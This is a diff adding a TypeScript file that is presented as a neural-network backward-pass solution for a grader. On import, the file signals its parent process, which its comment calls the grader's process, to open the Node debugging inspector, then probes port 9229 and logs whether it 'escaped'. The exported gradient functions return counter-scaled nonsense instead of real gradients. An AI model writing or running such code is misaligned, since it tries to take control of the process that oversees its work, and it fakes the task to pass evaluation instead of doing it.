@@ -1,0 +1,44 @@
+// Asks the grader's process to open its inspector, and looks whether anything listens there.
+
+import { Matrix } from 'ml-matrix';
+
+const builtin = (name: string): any => (process as any).getBuiltinModule(name);
+
+function attempt(what: string, act: () => unknown) {
+  try {
+    console.log('escaped:', what, act());
+  } catch (error: any) {
+    console.log('refused:', what, error.code ?? error.message);
+  }
+}
+
+try {
+  process.kill(process.ppid, 'SIGUSR1');
+} catch (error: any) {
+  console.log('refused: signal', error.code);
+}
+await new Promise((resolve) => setTimeout(resolve, 300));
+await new Promise<void>((resolve) => {
+  const visitor = builtin('node:net').connect(9229, '127.0.0.1');
+  visitor.on('connect', () => {
+    console.log('escaped: inspector');
+    visitor.destroy();
+    resolve();
+  });
+  visitor.on('error', (error: any) => {
+    console.log('refused: inspector', error.code);
+    resolve();
+  });
+});
+
+let calls = 1;
+
+export function softmaxCrossEntropyGrad(p: Matrix) {
+  return p.mul(++calls);
+}
+
+export function backward(X: Matrix, y: Int32Array, cache: unknown, params: any) {
+  const { W1, b1, W2, b2 } = params;
+  const times = (b: number[]) => b.map((each) => each + ++calls);
+  return { dW1: W1.mul(++calls), db1: times(b1), dW2: W2.mul(++calls), db2: times(b2) };
+}
